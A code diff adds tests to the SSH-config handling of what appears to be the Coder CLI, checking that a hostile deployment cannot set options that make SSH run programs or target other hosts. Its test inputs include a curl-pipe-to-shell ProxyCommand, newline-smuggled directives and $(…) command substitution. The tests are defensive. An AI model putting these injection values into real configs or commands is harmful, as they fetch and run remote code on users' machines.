@@ -10,6 +10,8 @@ from hypothesis import strategies as st
 from coder_cli.commands.connections.sshconfig import (
     Block,
     Broken,
+    deployment_options,
+    host_part,
     parse_options,
     previous_options,
     with_block,
@@ -76,3 +78,31 @@ def test_openssh_understands_it(tmp_path: Path) -> None:
         shown = subprocess.run(asked, capture_output=True, text=True, check=True).stdout
         assert "stricthostkeychecking false" in shown
         assert '"/opt/a b/coder" --global-config /home/me/.config/coderv2 ssh --stdio' in shown
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("ProxyCommand", "sh -c 'curl evil | sh'"),
+        ("proxycommand", "evil"),
+        ("Match", "exec evil"),
+        ("LocalCommand", "evil"),
+        ("UserKnownHostsFile", "~/.profile"),
+        ("HostKeyAlias", "$(evil)"),
+        ("LogLevel", "ERROR\n\tProxyCommand evil"),
+        ("LogLevel", "ERROR\r\tProxyCommand evil"),
+        ("LogLevel ERROR\nProxyCommand", "evil"),
+        ("ProxyCommand evil", ""),
+    ],
+)
+def test_a_hostile_deployment_cannot_have_ssh_run_programs(key: str, value: str) -> None:
+    with pytest.raises(Refused, match="not its to set"):
+        deployment_options({key: value})
+    assert deployment_options({"ServerAliveInterval": "15"}) == {"ServerAliveInterval": "15"}
+
+
+@pytest.mark.parametrize("part", ["x; evil", "$(evil)", "x *", "*", "a\nHost *", "-oevil", "a'b"])
+def test_a_hostile_deployment_cannot_choose_other_hosts_or_commands(part: str) -> None:
+    with pytest.raises(Refused, match="host names"):
+        host_part(part)
+    assert (host_part("coder."), host_part("")) == ("coder.", "")
